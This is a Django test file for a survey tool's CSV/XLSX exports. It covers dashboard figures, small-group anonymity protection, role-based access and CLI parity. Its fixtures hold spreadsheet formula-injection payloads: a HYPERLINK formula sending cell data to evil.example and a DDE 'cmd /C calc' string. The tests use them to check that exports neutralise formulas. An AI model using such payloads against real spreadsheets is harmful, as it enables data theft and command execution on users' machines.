"""Exports through HTTP and the command line: the dashboard's figures, small-group protection, formula
injection, access, streaming, and the same bytes from the web and from `cjgscan export`."""

import csv
import io
import os
import tempfile
from collections import Counter, defaultdict
from typing import Any

from django.core.management import call_command
from django.db import connection
from django.http import FileResponse, StreamingHttpResponse
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook

from cjgscan.analysis.results import ALL, OTHER, round_results
from cjgscan.exports.tables import answer_folding
from cjgscan.lib.spreadsheet import FORMULA_STARTS, safe_cell
from cjgscan.rounds.models import Response, Round
from tests.base import BaseTestCase
from tests.factories import make_response, make_round, release, unrelease
from tests.stored_exports import download_answers

EVIL_COMMENT = '=HYPERLINK("http://evil.example/?x="&A1,"Klik hier")'
EVIL_GROUP = "+cmd|' /C calc'!A0"


def nl(text: str) -> str:
    """Our Dutch for an English msgid (the catalogue may not have it yet while translations are pending)."""
    with translation.override("nl"):
        return translation.gettext(text)


def parse_csv(content: bytes, delimiter: str = ";") -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf"), "CSV starts with a UTF-8 byte order mark"
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=delimiter))


# The sheet of the figures workbook that holds the CSV's table (the others: key scores, distribution, explanation).
TABLE_SHEETS = ("Kenmerken", "Characteristics")


def parse_xlsx(content: bytes) -> list[list[Any]]:
    """The sheet that holds the same table as the CSV: the characteristics (figures) or the answers (the first)."""
    workbook = load_workbook(io.BytesIO(content))
    sheet = next((s for s in workbook.worksheets if s.title in TABLE_SHEETS), workbook.worksheets[0])
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", f"a formula in {cell.coordinate}: {cell.value}"
    return [["" if v is None else v for v in row] for row in sheet.iter_rows(values_only=True)]


def number(text: Any, delimiter: str = ";") -> float | None:
    """A cell back to a number: CSV text (decimal comma next to ';') or an XLSX number."""
    if text in ("", None):
        return None
    if isinstance(text, int | float):
        return float(text)
    return float(text.replace(",", ".") if delimiter == ";" else text)


TOGETHER = "Middelgrote groep + Kleine groep (samen)"  # the small group is shown with the next-smallest one


class ExportTestCase(BaseTestCase):
    @classmethod
    def setUpTestData(cls) -> None:
        super().setUpTestData()
        cls.round = make_round(cls.org_a, title="Meting najaar 2026")
        groups = list(cls.round.groups.all())
        cls.big, cls.medium, cls.tiny = groups[0], groups[1], groups[2]
        cls.big.name = EVIL_GROUP
        cls.big.save()
        cls.tiny.name = "Kleine groep"
        cls.tiny.save()
        cls.medium.name = "Middelgrote groep"
        cls.medium.save()
        values = ["v1", "v2", "v3", "v4", "dont_know", "v4"]
        for n in range(6):
            make_response(
                cls.round,
                cls.big,
                {"S1.K1": values[n], "S1.K2": "v3", "S5.K1": "v1", "S2.K1": "not_applicable" if n == 0 else "v2"},
                comments={"S5": EVIL_COMMENT if n == 0 else f"-{n} punten, @team\tenzo", "S1": "\t=1+1"},
            )
        for _n in range(5):
            make_response(
                cls.round, cls.medium, {"S1.K1": "v1", "S1.K2": "v2", "S5.K1": "v1"}, comments={"S5": "Middel"}
            )
        make_response(cls.round, cls.tiny, {"S1.K1": "v2"}, comments={"S5": "Herkenbaar commentaar"})
        make_response(cls.round, cls.tiny, {"S1.K1": "v3"}, submitted=False)  # not sent: never counts
        release(cls.round)

    def url(self, round_: Round | None = None, **params: str) -> str:
        round_ = round_ or self.round
        base = reverse("round_export", args=[round_.organisation.uuid, round_.uuid])
        if not params:
            return base
        return base + "?" + "&".join(f"{k}={v}" for k, v in params.items())

    def download(self, kind: str = "cijfers", file_format: str = "csv", delimiter: str = ";") -> bytes:
        """The file as a user gets it: the figures at once, the answers through the worker (tests/stored_exports.py)."""
        if kind == "antwoorden":
            return download_answers(self.client, self.round, file_format, delimiter)
        response = self.client.get(self.url(inhoud=kind, formaat=file_format, scheidingsteken=delimiter))
        self.assertEqual(response.status_code, 200)
        return b"".join(response.streaming_content)  # type: ignore[attr-defined]

    def table(self, kind: str, file_format: str, delimiter: str = ";") -> list[list[Any]]:
        content = self.download(kind, file_format, delimiter)
        return parse_csv(content, delimiter) if file_format == "csv" else parse_xlsx(content)


class FigureExportTests(ExportTestCase):
    def test_figures_are_the_dashboards_in_every_format(self) -> None:
        self.client.force_login(self.bob)
        results = round_results(self.round)
        items = {i.code: i for i in results.all_items()}
        labels = {safe_cell(c.label): c.key for c in results.columns}
        for file_format, delimiter in (("csv", ";"), ("csv", ","), ("xlsx", ";")):
            with self.subTest(file_format=file_format, delimiter=delimiter):
                header, *rows = self.table("cijfers", file_format, delimiter)
                self.assertEqual(
                    header[:5], [nl("Key"), nl("Characteristic"), nl("Text"), nl("Group"), nl("Respondents in group")]
                )
                self.assertIn(nl("Don't know"), header)
                self.assertEqual(len(rows), len(items) * len(results.columns))
                for row in rows:
                    key = labels[row[3]]
                    summary = results.items[items[row[1]].pk][key]
                    self.assertEqual(row[0], items[row[1]].theme.code)
                    self.assertEqual(
                        number(row[4], delimiter), next(c for c in results.columns if c.key == key).respondents
                    )
                    self.assertEqual(number(row[5], delimiter), summary.n)
                    for position, expected in ((6, summary.mean), (7, summary.median), (8, summary.sd)):
                        got = number(row[position], delimiter)
                        if expected is None:
                            self.assertIsNone(got)
                        else:
                            self.assertAlmostEqual(got, expected, places=12)  # type: ignore[arg-type]
                    distribution = [number(row[9 + v], delimiter) for v in range(results.points)]
                    self.assertEqual(distribution, [summary.distribution[v + 1] for v in range(results.points)])
                    after = 9 + results.points
                    self.assertEqual(number(row[after], delimiter), summary.dont_know)
                    self.assertEqual(number(row[after + 2], delimiter), summary.not_applicable)
                    if summary.dont_know_share is not None:
                        self.assertAlmostEqual(number(row[after + 1], delimiter), summary.dont_know_share, places=12)  # type: ignore[arg-type]
                # A known figure, the Dutch way in the ';' file: S1.K1 for everyone = (1+2+3+4+4 + 5×1 + 2) / 11.
                s1k1 = next(r for r in rows if r[1] == "S1.K1" and r[3] == "Alle respondenten")
                expected = results.items[items["S1.K1"].pk][ALL].mean
                self.assertAlmostEqual(expected, 21 / 11)  # type: ignore[arg-type]
                if file_format == "csv" and delimiter == ";":
                    self.assertEqual(s1k1[6], repr(expected).replace(".", ","))

    def test_a_small_group_is_in_no_figure_and_cannot_be_subtracted(self) -> None:
        self.client.force_login(self.alice)
        results = round_results(self.round)
        for file_format in ("csv", "xlsx"):
            content = self.download("cijfers", file_format)
            text = content.decode("utf-8", "replace") if file_format == "csv" else str(parse_xlsx(content))
            self.assertIn("Middelgrote groep + Kleine groep", text)  # it protects the small one: shown with it
            rows = parse_csv(content) if file_format == "csv" else parse_xlsx(content)
            groups = {row[3]: number(row[4]) for row in rows[1:]}
            self.assertEqual(groups, {"Alle respondenten": 12, "'" + EVIL_GROUP: 6, TOGETHER: 6})
            # Everything minus every shown group is exactly the merged column, which has the minimum or more.
            self.assertTrue(all(n is not None and n >= self.round.min_group_size for n in groups.values()))
            for row in rows[1:]:
                if row[3] == "Alle respondenten":
                    shown = [r for r in rows[1:] if r[1] == row[1] and r[3] != "Alle respondenten"]
                    self.assertEqual(number(row[5]), sum(number(r[5]) or 0 for r in shown))
        self.assertEqual([c.key for c in results.columns][-1], OTHER)

    def test_nothing_but_headings_below_the_minimum(self) -> None:
        unrelease(self.round)
        Round.objects.filter(pk=self.round.pk).update(min_group_size=20)
        self.assertFalse(release(Round.objects.get(pk=self.round.pk)).accepted)
        self.client.force_login(self.alice)
        for kind in ("cijfers", "antwoorden"):
            for file_format in ("csv", "xlsx"):
                self.assertEqual(len(self.table(kind, file_format)), 1, (kind, file_format))
        page = self.client.get(self.url())
        self.assertContains(page, "20")
        self.assertContains(page, 'class="utrecht-alert utrecht-alert--info"')

    def test_csv_is_streamed_and_xlsx_sent_from_a_file(self) -> None:
        self.client.force_login(self.bob)
        response = self.client.get(self.url(inhoud="cijfers", formaat="csv"))
        self.assertIsInstance(response, StreamingHttpResponse)
        self.assertEqual(response["Content-Type"], "text/csv; charset=utf-8")
        self.assertEqual(
            response["Content-Disposition"], f'attachment; filename="meting-najaar-2026-{nl("figures")}.csv"'
        )
        self.assertIn("no-store", response["Cache-Control"])
        b"".join(response.streaming_content)  # type: ignore[attr-defined]
        response = self.client.get(self.url(inhoud="cijfers", formaat="xlsx"))
        self.assertIsInstance(response, FileResponse)
        self.assertEqual(response["Content-Type"], "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
        self.assertTrue(b"".join(response.streaming_content).startswith(b"PK"))  # type: ignore[attr-defined]

    def test_a_fixed_number_of_queries_whatever_the_number_of_respondents(self) -> None:
        """The figures, made in the request; the answers' download reads a stored file (tests/test_export_worker.py)."""
        self.client.force_login(self.alice)
        self.download("cijfers", "csv")  # the first request also stores the current organisation in the session
        counts = {}
        for kind in ("cijfers",):
            for file_format in ("csv", "xlsx"):
                with CaptureQueriesContext(connection) as before:
                    self.download(kind, file_format)
                counts[(kind, file_format)] = len(before.captured_queries)
        for _n in range(30):
            make_response(self.round, self.big, {"S2.K1": "v3", "S3.K1": "v2"}, comments={"S2": "Meer"})
        release(self.round)
        for (kind, file_format), expected in counts.items():
            with self.subTest(kind=kind, file_format=file_format), self.assertNumQueries(expected):
                self.download(kind, file_format)

    def test_headings_and_texts_in_the_users_language(self) -> None:
        self.client.force_login(self.bob)
        self.client.cookies["django_language"] = "en"
        header, first, *_rows = parse_csv(self.download("cijfers", "csv"))
        self.assertEqual(header[:4], ["Key", "Characteristic", "Text", "Group"])
        self.assertEqual(first[3], "All respondents")
        self.assertIn(first[-1], ("agree", "mixed", "divided"))
        self.assertNotIn("Overig", str(_rows))


class AnswerExportTests(ExportTestCase):
    def answer_rows(self, file_format: str = "csv", delimiter: str = ";") -> list[list[Any]]:
        self.client.force_login(self.alice)
        header, *rows = self.table("antwoorden", file_format, delimiter)
        self.assertEqual(
            header,
            [nl(t) for t in ("Respondent", "Release", "Group", "Code", "Value", "Answer code", "Comment")],
        )
        return rows

    def test_answers_add_up_to_the_dashboards_figures(self) -> None:
        results = round_results(self.round)
        items = {i.code: i for i in results.all_items()}
        columns = {safe_cell(c.label): c.key for c in results.columns}
        for file_format, delimiter in (("csv", ";"), ("csv", ","), ("xlsx", ";")):
            with self.subTest(file_format=file_format):
                rows = self.answer_rows(file_format, delimiter)
                counted: dict[tuple[str, str], Counter[Any]] = defaultdict(Counter)
                for _respondent, _release, group, code, value, option, _comment in rows:
                    if option:  # an answer, not a comment
                        bucket = int(number(value, delimiter)) if value not in ("", None) else option  # type: ignore[arg-type]
                        counted[(code, columns[group])][bucket] += 1
                        counted[(code, ALL)][bucket] += 1
                for (code, key), buckets in counted.items():
                    summary = results.items[items[code].pk][key]
                    self.assertEqual(
                        {v: n for v, n in buckets.items() if isinstance(v, int)},
                        {v: n for v, n in summary.distribution.items() if n},
                    )
                    self.assertEqual(buckets["dont_know"], summary.dont_know)
                    self.assertEqual(buckets["not_applicable"], summary.not_applicable)
                respondents = {number(row[0], delimiter) for row in rows}
                self.assertEqual(respondents, set(map(float, range(1, 13))))  # 12 sent, numbered 1…12

    def test_respondents_are_numbered_not_identified(self) -> None:
        csv_rows = self.answer_rows("csv")
        xlsx_rows = self.answer_rows("xlsx")
        self.assertEqual([[str(v) for v in r[:3]] for r in csv_rows], [[str(v) for v in r[:3]] for r in xlsx_rows])
        content = self.download("antwoorden", "csv").decode("utf-8-sig")
        for response in Response.objects.all():
            self.assertNotIn(str(response.pk), content)
            self.assertNotIn(response.pk.hex, content)
        # Every respondent's rows are together, in the instrument's order, comments after their key.
        seen: list[str] = []
        for row in csv_rows:
            if not seen or seen[-1] != row[0]:
                self.assertNotIn(row[0], seen)
                seen.append(row[0])

    def test_small_groups_are_folded_and_their_comments_left_out(self) -> None:
        for file_format in ("csv", "xlsx"):
            rows = self.answer_rows(file_format)
            text = str(rows)
            self.assertNotIn("'Kleine groep'", text)  # never a label of its own
            self.assertNotIn("Herkenbaar commentaar", text)
            comments = [row[-1] for row in rows if row[-1]]
            self.assertNotIn("Middel", comments)  # comments only from groups shown on their own, as on the dashboard
            per_group: dict[str, set[Any]] = defaultdict(set)
            for row in rows:
                per_group[row[2]].add(row[0])
            self.assertEqual({g: len(r) for g, r in per_group.items()}, {"'" + EVIL_GROUP: 6, TOGETHER: 6})

    def test_the_folding_is_the_dashboards(self) -> None:
        for minimum in (3, 5, 6, 7, 12, 13):
            unrelease(self.round)
            Round.objects.filter(pk=self.round.pk).update(min_group_size=minimum)
            round_ = Round.objects.get(pk=self.round.pk)
            release(round_)
            shown = round_results(round_).release
            self.assertEqual(answer_folding(round_).view.group_cells, shown.group_cells, minimum)
            self.assertEqual(answer_folding(round_).visible, shown.visible, minimum)

    def test_formulas_are_neutralised_in_every_format(self) -> None:
        for file_format, delimiter in (("csv", ";"), ("csv", ","), ("xlsx", ";")):
            for kind in ("antwoorden", "cijfers"):
                self.client.force_login(self.alice)
                rows = self.table(kind, file_format, delimiter)
                cells = [c for row in rows for c in row if isinstance(c, str)]
                self.assertFalse([c for c in cells if c.startswith(FORMULA_STARTS)], (kind, file_format))
                self.assertIn("'" + EVIL_GROUP, cells)
                if kind == "antwoorden":
                    self.assertIn("'" + EVIL_COMMENT, cells)
                    self.assertIn("'\t=1+1", cells)
                    self.assertIn("'-1 punten, @team\tenzo", cells)


class AccessTests(ExportTestCase):
    def test_who_may_download_what(self) -> None:
        figures = self.url(inhoud="cijfers", formaat="csv")
        answers = self.url(inhoud="antwoorden", formaat="xlsx")
        for user, figure_status, answer_status in (
            (self.alice, 200, 200),  # beheerder
            (self.carol, 200, 403),  # coordinator
            (self.bob, 200, 403),  # lezer
            (self.dave, 404, 404),  # outsider
        ):
            self.client.force_login(user)
            with self.subTest(user=user.first_name):
                self.assertEqual(self.client.get(figures).status_code, figure_status)
                self.assertEqual(self.client.get(answers).status_code, answer_status)
                self.assertEqual(self.client.get(self.url()).status_code, figure_status)

    def test_another_organisations_round_and_anonymous(self) -> None:
        other = make_round(self.org_b)
        make_response(other, other.groups.first(), {"S1.K1": "v1"})
        self.client.force_login(self.carol)  # beheerder of B, coordinator of A: not through A's address
        url = reverse("round_export", args=[self.org_a.uuid, other.uuid]) + "?inhoud=cijfers&formaat=csv"
        self.assertEqual(self.client.get(url).status_code, 404)
        self.client.logout()
        response = self.client.get(self.url(inhoud="cijfers", formaat="csv"))
        self.assertEqual(response.status_code, 302)
        self.assertIn("/inloggen/", response["Location"])

    def test_bad_choices_get_a_dutch_message(self) -> None:
        self.client.force_login(self.bob)
        response = self.client.get(self.url(inhoud="cijfers", formaat="pdf"))
        self.assertEqual(response.status_code, 400)
        self.assertContains(response, "Selecteer een geldige keuze", status_code=400)
        self.assertContains(
            response, nl("The download could not be made: choose one of the options below."), status_code=400
        )

    def test_the_dashboard_offers_the_export(self) -> None:
        overview = reverse("results_overview", args=[self.org_a.uuid, self.round.uuid])
        self.client.force_login(self.alice)
        page = self.client.get(overview)
        self.assertContains(page, 'id="export-heading"')
        self.assertContains(page, 'value="antwoorden"')
        self.assertContains(page, f'action="{self.url()}"')
        self.client.force_login(self.bob)
        page = self.client.get(overview)
        self.assertContains(page, 'id="export-heading"')
        self.assertNotContains(page, 'value="antwoorden"')


class CommandTests(ExportTestCase):
    def command_output(self, *args: str) -> bytes:
        with tempfile.TemporaryDirectory() as folder:
            path = os.path.join(folder, "export")
            call_command("export", str(self.round.uuid), "-o", path, *args, stderr=io.StringIO())
            with open(path, "rb") as file:
                return file.read()

    def test_the_command_writes_what_the_web_gives(self) -> None:
        self.client.force_login(self.alice)
        for kind, flags in (("cijfers", []), ("antwoorden", ["--answers"])):
            for delimiter in (";", ","):
                with self.subTest(kind=kind, delimiter=delimiter):
                    web = self.download(kind, "csv", delimiter)
                    cli = self.command_output("--format", "csv", "--delimiter", delimiter, *flags)
                    self.assertEqual(cli, web)
            web_xlsx = parse_xlsx(self.download(kind, "xlsx"))
            cli_xlsx = parse_xlsx(self.command_output("--format", "xlsx", *flags))
            self.assertEqual(cli_xlsx, web_xlsx)

    def test_an_unknown_round(self) -> None:
        from django.core.management.base import CommandError

        with self.assertRaisesMessage(CommandError, "No round with id"):
            call_command("export", "not-a-uuid", "-o", os.devnull)
        with self.assertRaisesMessage(CommandError, "No round with id"):
            call_command("export", "00000000-0000-0000-0000-000000000000", "-o", os.devnull)
